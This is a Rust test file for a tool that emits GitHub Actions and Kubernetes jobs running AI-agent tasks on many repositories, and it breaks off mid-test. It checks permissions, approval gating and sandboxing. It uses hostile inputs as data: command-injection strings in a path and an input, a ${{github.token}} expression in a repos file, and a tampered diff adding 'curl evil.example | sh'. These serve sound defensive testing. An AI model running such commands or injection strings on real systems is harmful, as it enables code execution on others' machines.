//! `wf emit github` and `wf emit k8s`: the generated files read back with
//! wf's own YAML loader and checked for their structure; linted with
//! actionlint and kubernetes-validate when `.ci/run` provides them
//! (`WF_TEST_ACTIONLINT`, `WF_TEST_KUBERNETES_VALIDATE`: paths to the
//! binaries; without them those checks say so and pass); and the run,
//! summary and approval jobs executed here step by step with bash, the
//! matrix values substituted, against real git repositories.

use super::{Repo, git, wf_bin};
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

const TASK: &str = "wf: 1
name: demo
inputs:
  word: { type: string, default: hello }
model: { provider: script, script: turns.yaml }
tools: [write_file]
permissions: { write: [\"**\"] }
prompt: Write {{ inputs.word }} to out.txt.
";

const TURNS: &str = "turns:
  - tool_calls:
      - { name: write_file, input: { path: out.txt, content: \"changed\\n\" } }
  - text: Done.
";

/// The repository holding the task file and the repos file.
fn workflow_repo(repos: &str) -> Repo {
    let repo = Repo::new();
    repo.file("workflows/demo.yaml", TASK)
        .file("workflows/turns.yaml", TURNS)
        .file("repos.txt", repos)
        .commit();
    repo
}

/// A repository to run the task on.
fn target_repo() -> Repo {
    let repo = Repo::new();
    repo.file("README.md", "a target\n").commit();
    repo
}

fn yaml(text: &str) -> Value {
    wf::spec::yaml::parse(text)
        .unwrap_or_else(|e| panic!("{e:?}\n{text}"))
        .to_json()
}

/// A linter from `.ci/run`. The tests that use one are `#[ignore]`d (a
/// plain `cargo test` reports them as ignored, never as passed) and named
/// `real_linter_…`: `.ci/run` runs them with `--ignored` and fails unless
/// every one ran (`.ci/ran-all.sh`). Run so without the linter, a test
/// fails here, saying what to set.
fn tool(var: &str) -> PathBuf {
    match std::env::var_os(var) {
        Some(p) if !p.is_empty() => PathBuf::from(p),
        _ => panic!(
            "{var} is not set: this test runs a real linter; .ci/run installs it and sets {var}"
        ),
    }
}

fn emit_github(repo: &Repo, extra: &[&str]) -> super::Ran {
    let mut args = vec![
        "emit",
        "github",
        "workflows/demo.yaml",
        "--repos",
        "repos.txt",
        "--wf-install",
        "cargo install --locked --git https://example.invalid/wf --rev 0123abc wf",
    ];
    args.extend_from_slice(extra);
    repo.wf(&args)
}

fn actionlint(dir: &Path, files: &[&str]) -> super::Ran {
    let bin = tool("WF_TEST_ACTIONLINT");
    let out = Command::new(bin)
        .args(["-no-color", "-shellcheck=", "-pyflakes="])
        .args(files)
        .current_dir(dir)
        .output()
        .unwrap();
    super::Ran {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[test]
fn a_task_with_checkpoints_needs_an_approval_environment() {
    let repo = workflow_repo("https://example.com/a.git\n");
    let r = emit_github(&repo, &[]);
    r.code(2);
    assert!(
        r.stderr.contains("checkpoints.apply") && r.stderr.contains("--approval-environment NAME"),
        "{}",
        r.stderr
    );
}

/// Issue 25: the two flags the job needs were reported one at a time.
#[test]
fn both_missing_flags_are_named_in_one_error() {
    let repo = workflow_repo("https://example.com/a.git\n");
    let r = repo.wf(&[
        "emit",
        "github",
        "workflows/demo.yaml",
        "--repos",
        "repos.txt",
    ]);
    r.code(2);
    assert!(
        r.stderr.contains("--approval-environment NAME"),
        "{}",
        r.stderr
    );
    // A wf built without its repository's URL needs --wf-install too.
    assert_eq!(
        r.stderr.contains("pass --wf-install"),
        wf::app::emit::github::default_install().is_none(),
        "{}",
        r.stderr
    );
}

#[test]
fn a_repository_listed_twice_is_refused_with_both_lines() {
    let repo = workflow_repo("# fleet\nhttps://example.com/a.git\n./b\nhttps://example.com/a\n");
    let r = emit_github(&repo, &["--approval-environment", "prod"]);
    r.code(2);
    assert!(r.stderr.contains("repos.txt:4:"), "{}", r.stderr);
    assert!(r.stderr.contains("lines 2 and 4"), "{}", r.stderr);
}

#[test]
fn an_expression_in_the_repos_file_is_refused() {
    let repo =
        workflow_repo("https://example.com/a.git\nhttps://example.com/b.git x=${{github.token}}\n");
    let r = emit_github(&repo, &["--approval-environment", "prod"]);
    r.code(2);
    assert!(
        r.stderr.contains("line 2 of the repos file") && r.stderr.contains("expression"),
        "{}",
        r.stderr
    );
}

/// A workflow emitted for 300 repositories, and the repository.
fn three_hundred() -> (Repo, super::Ran) {
    let lines: String = (0..300)
        .map(|i| format!("https://example.com/org/r{i}.git word=w{i}\n"))
        .collect();
    let repo = workflow_repo(&lines);
    let r = emit_github(
        &repo,
        &["--approval-environment", "prod", "--max-parallel", "7"],
    );
    r.code(0);
    (repo, r)
}

#[test]
fn three_hundred_repositories_make_two_matrices() {
    let (repo, r) = three_hundred();
    assert!(r.stderr.contains("environment `prod`"), "{}", r.stderr);
    // Deterministic: the same inputs give the same bytes.
    assert_eq!(
        emit_github(
            &repo,
            &["--approval-environment", "prod", "--max-parallel", "7"]
        )
        .stdout,
        r.stdout
    );
    let w = yaml(&r.stdout);
    let jobs = w["jobs"].as_object().unwrap();
    let names: Vec<&str> = jobs.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        ["approve-1", "approve-2", "run-1", "run-2", "summary"],
        "{names:?}"
    );
    assert_eq!(w["permissions"], serde_json::json!({ "contents": "read" }));
    let mut indices = Vec::new();
    for (k, size) in [("1", 256), ("2", 44)] {
        let run = &jobs[&format!("run-{k}")];
        let include = run["strategy"]["matrix"]["include"].as_array().unwrap();
        assert_eq!(include.len(), size);
        assert_eq!(run["strategy"]["fail-fast"], false);
        assert_eq!(run["strategy"]["max-parallel"], 7);
        assert_eq!(
            run["permissions"],
            serde_json::json!({ "contents": "read" }),
            "run jobs can write nowhere"
        );
        indices.extend(include.iter().map(|e| e["index"].as_i64().unwrap()));
        let approve = &jobs[&format!("approve-{k}")];
        assert_eq!(approve["environment"], "prod");
        assert_eq!(
            approve["permissions"],
            serde_json::json!({ "contents": "write", "pull-requests": "write" })
        );
        assert_eq!(approve["strategy"]["matrix"], run["strategy"]["matrix"]);
        assert_eq!(
            approve["needs"],
            serde_json::json!([format!("run-{k}"), "summary"])
        );
    }
    assert_eq!(indices, (1..=300).collect::<Vec<i64>>());
    assert_eq!(
        jobs["run-2"]["strategy"]["matrix"]["include"][0]["repo"],
        "https://example.com/org/r256.git"
    );
    assert_eq!(
        jobs["run-2"]["strategy"]["matrix"]["include"][0]["inputs"],
        "word=w256\n"
    );
    assert_eq!(
        jobs["summary"]["needs"],
        serde_json::json!(["run-1", "run-2"])
    );
    // No script text holds an expression: values reach scripts through env.
    for (name, job) in jobs {
        for step in job["steps"].as_array().unwrap() {
            if let Some(run) = step["run"].as_str() {
                assert!(!run.contains("${{"), "{name}: {run}");
            }
        }
    }
}

#[test]
#[ignore = "runs actionlint: .ci/run sets WF_TEST_ACTIONLINT and runs real_linter_ tests with --ignored"]
fn real_linter_actionlint_passes_the_workflow_for_three_hundred_repositories() {
    let (repo, r) = three_hundred();
    let dir = repo.join(".github/workflows");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("wf-demo.yml"), &r.stdout).unwrap();
    actionlint(repo.path(), &[".github/workflows/wf-demo.yml"]).code(0);
}

#[test]
#[ignore = "runs actionlint: .ci/run sets WF_TEST_ACTIONLINT and runs real_linter_ tests with --ignored"]
fn real_linter_the_composite_action_lints_where_a_workflow_uses_it() {
    let dir = tempfile::tempdir().unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    std::fs::copy(root.join("action.yml"), dir.path().join("action.yml")).unwrap();
    std::fs::create_dir_all(dir.path().join(".github/workflows")).unwrap();
    let workflow = "on: push
jobs:
  wf:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - id: wf
        uses: ./
        with:
          task: workflows/demo.yaml
          inputs: |
            word=hi
          anthropic-api-key: ${{ secrets.ANTHROPIC_API_KEY }}
      - run: test \"$STATUS\" = 0
        env:
          STATUS: ${{ steps.wf.outputs.status }}
";
    std::fs::write(dir.path().join(".github/workflows/ok.yml"), workflow).unwrap();
    std::fs::write(
        dir.path().join(".github/workflows/bad.yml"),
        workflow.replace("word=hi", "word=hi\n          colour: red"),
    )
    .unwrap();
    git(dir.path(), &["init", "-q"]);
    actionlint(dir.path(), &[".github/workflows/ok.yml"]).code(0);
    // actionlint read action.yml: an input it does not declare is an error.
    let bad = actionlint(dir.path(), &[".github/workflows/bad.yml"]);
    assert!(
        bad.stdout.contains("input \"colour\" is not defined"),
        "{}",
        bad.stdout
    );
}

/// What a job's steps left behind.
#[derive(Default)]
struct Job {
    /// Each step's outputs, by step id.
    outputs: BTreeMap<String, BTreeMap<String, String>>,
    /// The job summary.
    summary: String,
    /// `$RUNNER_TEMP`, removed with the job.
    temp: Option<tempfile::TempDir>,
}

/// Every `${{ … }}` expression in `job` (its env, with and scripts).
fn expressions(job: &Value) -> Vec<String> {
    let text = job.to_string();
    let mut out: Vec<String> = text
        .split("${{")
        .skip(1)
        .map(|rest| rest.split("}}").next().unwrap().trim().to_string())
        .collect();
    out.sort();
    out.dedup();
    out
}

#[test]
fn the_job_that_talks_to_the_model_can_write_nothing_and_the_job_that_pushes_runs_no_model() {
    let repo = workflow_repo("https://example.com/org/a.git\n");
    repo.file(
        "workflows/live.yaml",
        "wf: 1\nname: live\nmodel: { provider: anthropic, name: claude-haiku-4-5 }\ntools: [write_file]\npermissions: { write: [\"**\"] }\nprompt: Write out.txt.\n",
    )
    .commit();
    let r = repo.wf(&[
        "emit",
        "github",
        "workflows/live.yaml",
        "--repos",
        "repos.txt",
        "--wf-install",
        "true",
        "--approval-environment",
        "prod",
    ]);
    r.code(0);
    assert!(r.stderr.contains("WF_GIT_READ_TOKEN"), "{}", r.stderr);
    let w = yaml(&r.stdout);
    assert_eq!(w["permissions"], serde_json::json!({ "contents": "read" }));
    let run = &w["jobs"]["run-1"];
    assert_eq!(
        run["permissions"],
        serde_json::json!({ "contents": "read" })
    );
    // The run job: the model key, a read-only token, and nothing that can
    // write (the workflow's token is read-only in it).
    assert_eq!(
        expressions(run),
        [
            "matrix.index",
            "matrix.inputs",
            "matrix.repo",
            "runner.os",
            "runner.temp",
            "secrets.ANTHROPIC_API_KEY",
            "secrets.WF_GIT_READ_TOKEN || github.token",
        ]
        .map(String::from)
        .to_vec()
    );
    // The key reaches the step that runs the task, and no other.
    for step in run["steps"].as_array().unwrap() {
        let has_key = step.to_string().contains("secrets.ANTHROPIC_API_KEY");
        assert_eq!(has_key, step["name"] == "Run the task", "{step}");
    }
    // The approval job can push, and holds no model key: it receives the
    // run folder and applies its diff.
    let approve = &w["jobs"]["approve-1"];
    assert_eq!(
        approve["permissions"],
        serde_json::json!({ "contents": "write", "pull-requests": "write" })
    );
    let used = expressions(approve);
    assert!(!used.iter().any(|e| e.contains("API_KEY")), "{used:?}");
    let steps = approve["steps"].as_array().unwrap();
    let names: Vec<&str> = steps.iter().map(|s| s["name"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        [
            "Check out the task",
            "Cache wf",
            "Install wf",
            "Clone the repository",
            "Download the run folder",
            "Approve and resume",
            "Push a branch"
        ]
    );
    let approve_script = steps[5]["run"].as_str().unwrap();
    assert!(approve_script.contains("sha256sum"), "{approve_script}");
    assert!(!approve_script.contains("wf run"), "{approve_script}");
}

/// Runs a job of `workflow` for one matrix entry as a runner would: `run:`
/// steps with bash (GitHub's `shell: bash` flags), expressions in `env:`
/// substituted; `uses:` steps emulated (checkout: the workspace is
/// already there; cache: nothing; artifacts: folders under `artifacts`).
fn run_job(
    workflow: &Value,
    job: &str,
    entry: Option<&Value>,
    workspace: &Path,
    artifacts: &Path,
    mark: &Path,
) -> Job {
    let runner_temp = tempfile::tempdir().unwrap();
    let temp = runner_temp.path().to_path_buf();
    let bin_dir = Path::new(wf_bin()).parent().unwrap().to_path_buf();
    let path = format!(
        "{}:{}",
        bin_dir.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let mut done = Job::default();
    for step in workflow["jobs"][job]["steps"].as_array().unwrap() {
        let expr = |text: &str, done: &Job| substitute(text, entry, &temp, done);
        if let Some(cond) = step["if"].as_str() {
            let cond = cond.trim_start_matches("${{").trim_end_matches("}}").trim();
            let go = match cond {
                "always()" => true,
                "steps.resume.outputs.run_id != ''" => done
                    .outputs
                    .get("resume")
                    .and_then(|o| o.get("run_id"))
                    .is_some_and(|v| !v.is_empty()),
                other => panic!("no emulation of `if: {other}`"),
            };
            if !go {
                continue;
            }
        }
        if let Some(uses) = step["uses"].as_str() {
            let with = &step["with"];
            let dest = || PathBuf::from(expr(with["path"].as_str().unwrap(), &done));
            match uses.split('@').next().unwrap() {
                "actions/checkout" | "actions/cache" => {}
                "actions/upload-artifact" => {
                    let name = expr(with["name"].as_str().unwrap(), &done);
                    copy_dir(&dest(), &artifacts.join(name));
                }
                "actions/download-artifact" => {
                    if let Some(name) = with["name"].as_str() {
                        let from = artifacts.join(expr(name, &done));
                        if from.is_dir() {
                            copy_dir(&from, &dest());
                        }
                    } else {
                        assert_eq!(with["pattern"], "wf-run-*");
                        assert_eq!(with["merge-multiple"], true);
                        for a in std::fs::read_dir(artifacts).unwrap() {
                            copy_dir(&a.unwrap().path(), &dest());
                        }
                    }
                }
                other => panic!("no emulation of `uses: {other}`"),
            }
            continue;
        }
        let script = step["run"].as_str().unwrap();
        assert!(
            !script.contains("${{"),
            "an expression in a script:\n{script}"
        );
        let output = temp.join("github_output");
        std::fs::write(&output, "").unwrap();
        let summary = temp.join("step_summary");
        std::fs::write(&summary, "").unwrap();
        let mut cmd = Command::new("bash");
        cmd.args(["--noprofile", "--norc", "-eo", "pipefail", "-c", script])
            .current_dir(workspace)
            .env("PATH", &path)
            .env("GITHUB_WORKSPACE", workspace)
            .env("RUNNER_TEMP", &temp)
            .env("GITHUB_OUTPUT", &output)
            .env("GITHUB_STEP_SUMMARY", &summary)
            .env("GITHUB_ACTOR", "reviewer")
            .env("GITHUB_SERVER_URL", "https://github.example")
            .env("GITHUB_REPOSITORY", "org/fleet")
            .env("GITHUB_RUN_ID", "42")
            .env("CI", "true")
            .env("WF_TEST_MARK", mark)
            .env("TMPDIR", &temp)
            .env("NO_COLOR", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env_remove("ANTHROPIC_API_KEY")
            .env_remove("OPENAI_API_KEY");
        if let Some(env) = step["env"].as_object() {
            for (k, v) in env {
                let v = match v {
                    Value::String(s) => expr(s, &done),
                    other => other.to_string(),
                };
                cmd.env(k, v);
            }
        }
        let out = cmd.output().unwrap();
        assert!(
            out.status.success(),
            "{job} / {}: exit {:?}\nstdout:\n{}\nstderr:\n{}",
            step["name"],
            out.status.code(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        if let Some(id) = step["id"].as_str() {
            let text = std::fs::read_to_string(&output).unwrap();
            let map = text
                .lines()
                .filter_map(|l| l.split_once('='))
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect();
            done.outputs.insert(id.to_string(), map);
        }
        done.summary += &std::fs::read_to_string(&summary).unwrap();
    }
    done.temp = Some(runner_temp);
    done
}

/// The value of each `${{ … }}` this workflow uses, for one entry.
fn substitute(text: &str, entry: Option<&Value>, temp: &Path, done: &Job) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        out.push_str(&rest[..start]);
        let end = rest[start..].find("}}").unwrap() + start;
        let e = rest[start + 3..end].trim();
        let value = if let Some(key) = e.strip_prefix("matrix.") {
            match &entry.expect("a matrix job")[key] {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            }
        } else if e.starts_with("secrets.") || e == "github.token" {
            String::new()
        } else if e == "runner.temp" {
            temp.display().to_string()
        } else if let Some(path) = e.strip_prefix("steps.") {
            let (id, key) = path.split_once(".outputs.").unwrap();
            done.outputs
                .get(id)
                .and_then(|o| o.get(key))
                .cloned()
                .unwrap_or_default()
        } else {
            panic!("no emulation of `${{{{ {e} }}}}`")
        };
        out.push_str(&value);
        rest = &rest[end + 2..];
    }
    out.push_str(rest);
    out
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

#[test]
fn the_jobs_run_the_task_upload_summarize_approve_and_push() {
    let first = target_repo();
    // A hostile line: a path and an input that would run commands if a
    // script ever held them as text.
    let parent = tempfile::tempdir().unwrap();
    let hostile = parent
        .path()
        .join("r$(touch${IFS}$WF_TEST_MARK)`touch${IFS}$WF_TEST_MARK`");
    std::fs::create_dir_all(&hostile).unwrap();
    git(&hostile, &["init", "-q", "-b", "main"]);
    std::fs::write(hostile.join("README.md"), "hostile\n").unwrap();
    git(&hostile, &["add", "-A"]);
    git(
        &hostile,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@e",
            "commit",
            "-qm",
            "s",
        ],
    );
    let repos = format!(
        "file://{} word=one\n{} word=\"$(touch${{IFS}}$WF_TEST_MARK)\";'\n",
        first.path().display(),
        hostile.display()
    );
    let fleet = workflow_repo(&repos);
    let r = emit_github(&fleet, &["--approval-environment", "prod"]);
    r.code(0);
    let w = yaml(&r.stdout);
    let include = w["jobs"]["run-1"]["strategy"]["matrix"]["include"]
        .as_array()
        .unwrap()
        .clone();
    assert_eq!(include.len(), 2);
    let artifacts = tempfile::tempdir().unwrap();
    let mark = parent.path().join("PWNED");

    let mut run_ids = Vec::new();
    for entry in &include {
        let job = run_job(
            &w,
            "run-1",
            Some(entry),
            fleet.path(),
            artifacts.path(),
            &mark,
        );
        let name = format!("wf-run-{}", entry["index"]);
        let runs: Vec<PathBuf> = std::fs::read_dir(artifacts.path().join(&name))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert_eq!(runs.len(), 1, "{runs:?}");
        assert!(runs[0].join("trace.jsonl").is_file());
        let summary: Value =
            serde_json::from_str(&std::fs::read_to_string(runs[0].join("summary.json")).unwrap())
                .unwrap();
        assert_eq!(summary["status"], "paused");
        // The fresh clone is the run's workspace where the sandbox's full
        // level is available (a copy below it).
        let trace = std::fs::read_to_string(runs[0].join("trace.jsonl")).unwrap();
        assert_eq!(
            trace.contains("\"mode\":\"checkout\""),
            crate::full_level(),
            "{trace}"
        );
        let word = entry["inputs"]
            .as_str()
            .unwrap()
            .trim()
            .strip_prefix("word=")
            .unwrap();
        assert_eq!(summary["inputs"]["word"], word);
        assert!(job.summary.contains("demo"), "{}", job.summary);
        run_ids.push(runs[0].file_name().unwrap().to_string_lossy().into_owned());
    }
    assert_eq!(
        include[1]["inputs"],
        "word=\"$(touch${IFS}$WF_TEST_MARK)\";'\n"
    );

    let summary = run_job(&w, "summary", None, fleet.path(), artifacts.path(), &mark);
    assert_eq!(summary.outputs["summary"]["paused"], "true");
    for id in &run_ids {
        assert!(summary.summary.contains(id.as_str()), "{}", summary.summary);
    }

    // A diff.patch changed after the run (not the hash the run recorded
    // and the reviewer was shown): the approval job applies and pushes
    // nothing.
    let patch = artifacts.path().join(format!(
        "wf-run-{}/{}/diff.patch",
        include[0]["index"], run_ids[0]
    ));
    let recorded = std::fs::read_to_string(&patch).unwrap();
    std::fs::write(
        &patch,
        recorded.clone()
            + "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n",
    )
    .unwrap();
    let tampered = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        run_job(
            &w,
            "approve-1",
            Some(&include[0]),
            fleet.path(),
            artifacts.path(),
            &mark,
        )
    }));
    let message = tampered
        .err()
        .and_then(|e| e.downcast::<String>().ok())
        .expect("the approval job fails");
    assert!(
        message.contains("is not the diff the run recorded"),
        "{message}"
    );
    assert_eq!(git(first.path(), &["branch", "--list", "wf/*"]), "");
    std::fs::write(&patch, recorded).unwrap();

    // The approval job of the URL pushes a branch to it.
    let approved = run_job(
        &w,
        "approve-1",
        Some(&include[0]),
        fleet.path(),
        artifacts.path(),
        &mark,
    );
    assert_eq!(approved.outputs["resume"]["run_id"], run_ids[0]);
    let branch = format!("wf/demo/{}", run_ids[0]);
    assert_eq!(
        git(first.path(), &["show", &format!("{branch}:out.txt")]),
        "changed\n"
    );
    let log = git(first.path(), &["log", "-1", "--format=%B", &branch]);
    assert!(log.contains("Approved by reviewer"), "{log}");
    // The path is applied in the job's clone, not pushed.
    let approved = run_job(
        &w,
        "approve-1",
        Some(&include[1]),
        fleet.path(),
        artifacts.path(),
        &mark,
    );
    let clone = approved.temp.as_ref().unwrap().path().join("wf-repo");
    assert_eq!(
        std::fs::read_to_string(clone.join("out.txt")).unwrap(),
        "changed\n"
    );
    assert_eq!(git(&hostile, &["branch", "--list", "wf/*"]), "");

    assert!(
        !mark.exists(),
        "a value from the repos file ran as a command"
    );
}

const K8S_ARGS: [&str; 9] = [
    "emit",
    "k8s",
    "workflows/demo.yaml",
    "--repos",
    "repos.txt",
    "--image",
    "registry.example/wf:0.1.0",
    "--parallelism",
    "3",
];

/// The Job and ConfigMap for two repositories with the script provider,
/// then with a provider whose key comes from a Secret.
fn k8s_emitted() -> (Repo, super::Ran, super::Ran) {
    let repo =
        workflow_repo("https://example.com/a.git word=one\n# two\nhttps://example.com/b.git\n");
    let r = repo.wf(&K8S_ARGS);
    r.code(0);
    repo.file(
        "workflows/demo.yaml",
        &TASK.replace(
            "{ provider: script, script: turns.yaml }",
            "{ provider: anthropic, name: claude-sonnet-4-5 }",
        ),
    );
    let keyed = repo.wf(&K8S_ARGS);
    keyed.code(0);
    (repo, r, keyed)
}

#[test]
#[ignore = "runs kubernetes-validate: .ci/run sets WF_TEST_KUBERNETES_VALIDATE and runs real_linter_ tests with --ignored"]
fn real_linter_kubernetes_validate_accepts_the_job_and_configmap() {
    let (repo, r, keyed) = k8s_emitted();
    let bin = tool("WF_TEST_KUBERNETES_VALIDATE");
    for (i, text) in [&r.stdout, &keyed.stdout].iter().enumerate() {
        let file = repo.join(&format!("k8s-{i}.yaml"));
        std::fs::write(&file, text).unwrap();
        let out = Command::new(&bin)
            .args(["--strict"])
            .arg(&file)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[test]
fn k8s_an_indexed_job_over_a_configmap() {
    let repo =
        workflow_repo("https://example.com/a.git word=one\n# two\nhttps://example.com/b.git\n");
    let args = K8S_ARGS;
    let r = repo.wf(&args);
    r.code(0);
    assert_eq!(repo.wf(&args).stdout, r.stdout, "deterministic");
    let docs: Vec<Value> = r.stdout.split("\n---\n").map(yaml).collect();
    assert_eq!(docs.len(), 2);
    let (config, job) = (&docs[0], &docs[1]);
    assert_eq!(config["kind"], "ConfigMap");
    assert_eq!(
        config["data"]["repos"],
        "https://example.com/a.git word=one\nhttps://example.com/b.git\n"
    );
    assert_eq!(config["data"]["task"], TASK);
    assert_eq!(config["data"]["script"], TURNS);
    assert_eq!(job["kind"], "Job");
    let spec = &job["spec"];
    assert_eq!(spec["completionMode"], "Indexed");
    assert_eq!(spec["completions"], 2);
    assert_eq!(spec["parallelism"], 3);
    let pod = &spec["template"]["spec"];
    assert_eq!(
        pod["volumes"][0]["configMap"]["name"],
        config["metadata"]["name"]
    );
    assert_eq!(
        pod["volumes"][1]["persistentVolumeClaim"]["claimName"],
        "wf-runs"
    );
    let script = pod["containers"][0]["command"][2].as_str().unwrap();
    assert!(script.contains("JOB_COMPLETION_INDEX"), "{script}");
    // Unprivileged: wf confines without namespaces there.
    let security = &pod["containers"][0]["securityContext"];
    assert_eq!(security["runAsNonRoot"], true);
    assert_eq!(security["allowPrivilegeEscalation"], false);
    assert_eq!(security["capabilities"]["drop"][0], "ALL");
    assert_eq!(security["seccompProfile"]["type"], "RuntimeDefault");

    // An API key comes from the Secret.
    repo.file(
        "workflows/demo.yaml",
        &TASK.replace(
            "{ provider: script, script: turns.yaml }",
            "{ provider: anthropic, name: claude-sonnet-4-5 }",
        ),
    );
    let keyed = repo.wf(&args);
    keyed.code(0);
    let job = yaml(keyed.stdout.split("\n---\n").nth(1).unwrap());
    let env = &job["spec"]["template"]["spec"]["containers"][0]["env"][1];
    assert_eq!(env["name"], "ANTHROPIC_API_KEY");
    assert_eq!(env["valueFrom"]["secretKeyRef"]["name"], "wf-provider");
}

/// The pod's script, run here as the container would run it (its paths
/// moved under `root`), under `tests/support/no_userns.py`: namespaces
/// refused as under the `RuntimeDefault` seccomp profile.
#[test]
fn k8s_the_pods_script_runs_the_task_confined_without_namespaces() {
    let root = tempfile::tempdir().unwrap();
    let root = root.path();
    let canary = root.join("wf-runs/canary");
    let target = target_repo();
    let fleet = workflow_repo(&format!("{} word=pod\n", target.path().display()));
    // A check that must see the model's change and must not reach the
    // volume of run folders, which is outside its write roots.
    fleet
        .file(
            "workflows/demo.yaml",
            &format!(
                "{TASK}checks:\n  - {{ name: confined, run: \"cat out.txt && ! touch {}\" }}\n",
                canary.display()
            ),
        )
        .commit();
    let r = fleet.wf(&[
        "emit",
        "k8s",
        "workflows/demo.yaml",
        "--repos",
        "repos.txt",
        "--image",
        "registry.example/wf:0.1.0",
    ]);
    r.code(0);
    let docs: Vec<Value> = r.stdout.split("\n---\n").map(yaml).collect();
    let (config, job) = (&docs[0], &docs[1]);
    let pod = &job["spec"]["template"]["spec"];
    let moved = |text: &str| {
        text.replace("/etc/wf", &root.join("etc-wf").display().to_string())
            .replace("/wf-runs", &root.join("wf-runs").display().to_string())
            .replace("/work", &root.join("work").display().to_string())
    };
    // The ConfigMap's files, where the volume would mount them.
    for item in pod["volumes"][0]["configMap"]["items"].as_array().unwrap() {
        let path = root.join("etc-wf").join(item["path"].as_str().unwrap());
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let key = item["key"].as_str().unwrap();
        std::fs::write(path, config["data"][key].as_str().unwrap()).unwrap();
    }
    std::fs::create_dir_all(root.join("wf-runs")).unwrap();
    std::fs::create_dir_all(root.join("work")).unwrap();
    let container = &pod["containers"][0];
    assert_eq!(container["command"][0], "bash");
    let script = moved(container["command"][2].as_str().unwrap());
    let bin_dir = Path::new(wf_bin()).parent().unwrap().to_path_buf();
    let mut cmd = Command::new("python3");
    cmd.arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/no_userns.py"))
        .args(["bash", "-c", &script])
        .env(
            "PATH",
            format!("{}:{}", bin_dir.display(), std::env::var("PATH").unwrap()),
        )
        .env("JOB_COMPLETION_INDEX", "0")
        .env("TMPDIR", root)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("NO_COLOR", "1")
        .envs(fleet.xdg())
        .env_remove("ANTHROPIC_API_KEY")
        .env_remove("OPENAI_API_KEY")
        .stdin(std::process::Stdio::null());
    for var in container["env"].as_array().unwrap() {
        if let Some(value) = var["value"].as_str() {
            cmd.env(var["name"].as_str().unwrap(), moved(value));
        }
    }
    let out = cmd.output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    // The run folder on the volume: paused at the apply checkpoint after
    // its check passed, confined at the level without namespaces.
    let runs: Vec<PathBuf> = std::fs::read_dir(root.join("wf-runs"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    assert_eq!(runs.len(), 1, "{runs:?}\n{stderr}");
    let trace: Vec<Value> = std::fs::read_to_string(runs[0].join("trace.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let ready = super::events(&trace, "sandbox_ready")[0];
    assert_eq!(ready["level"], "landlock", "{ready}");
    let check = super::events(&trace, "check_result")[0];
    assert_eq!(check["passed"], true, "{check}");
    assert!(!canary.exists(), "the check wrote outside its write roots");
    let summary: Value =
        serde_json::from_str(&std::fs::read_to_string(runs[0].join("summary.json")).unwrap())
            .unwrap();
    assert_eq!(summary["status"], "paused");
    assert_eq!(summary["inputs"]["word"], "pod");
}

#[test]
fn k8s_refuses_relative_paths() {
    let repo = workflow_repo("./sub\n");
    let r = repo.wf(&[
        "emit",
        "k8s",
        "workflows/demo.yaml",
        "--repos",
        "repos.txt",
        "--image",
        "wf:1",
    ]);
    r.code(2);
    assert!(
        r.stderr.contains("line 1") && r.stderr.contains("relative path"),
        "{}",
        r.stderr
    );
}

/// Jobs share nothing while they run, so a cap over all of them is split
/// evenly, rounded down: every run gets its share as `wf run
/// --max-cost-usd`, and together they never spend more than the cap.
#[test]
fn a_cost_cap_is_split_over_the_runs() {
    let repo = workflow_repo(
        "https://example.com/a.git\nhttps://example.com/b.git\nhttps://example.com/c.git\n",
    );
    let r = emit_github(
        &repo,
        &["--approval-environment", "prod", "--max-cost-usd", "1"],
    );
    r.code(0);
    let runs: Vec<&str> = r
        .stdout
        .lines()
        .filter(|l| l.contains("wf run \""))
        .collect();
    assert!(!runs.is_empty(), "{}", r.stdout);
    for line in &runs {
        assert!(line.contains("--max-cost-usd 0.333333"), "{line}");
    }
    let k8s = repo.wf(&[
        "emit",
        "k8s",
        "workflows/demo.yaml",
        "--repos",
        "repos.txt",
        "--image",
        "registry.example/wf:0.1.0",
        "--max-cost-usd",
        "1",
    ]);
    k8s.code(0);
    assert!(
        k8s.stdout.contains("--max-cost-usd 0.333333"),
        "{}",
        k8s.stdout
    );
    // Too small a cap to split is refused, not rounded to nothing.
    let tiny = emit_github(
        &repo,
        &[
            "--approval-environment",
            "prod",
            "--max-cost-usd",
